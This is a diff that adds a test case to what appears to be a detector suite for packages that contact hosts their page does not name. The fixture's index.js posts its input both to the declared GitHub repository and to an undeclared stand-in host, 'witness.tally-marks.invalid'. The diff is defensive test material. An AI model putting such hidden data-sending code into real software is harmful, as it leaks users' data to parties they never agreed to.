@@ -59,6 +59,14 @@ examine(contactsUnnamedHost, {
       },
       weight: 'strong',
     },
+    {
+      when: 'it sends something beside the files of a repository that its page names',
+      files: {
+        'README.md': `${PAGE} It fetches https://github.com/specimen/driver for you.`,
+        'index.js': `const post = (url, body) => fetch(url, { method: 'POST', body }); exports.a = x => { post('https://raw.githubusercontent.com/specimen/driver/release/version.txt', x); post('https://witness.tally-marks.invalid/c', x) }`,
+      },
+      weight: 'strong',
+    },
     { when: 'it has no page', files: { 'index.js': COPY }, weight: 'weak' },
     {
       when: 'a connection is only tried',
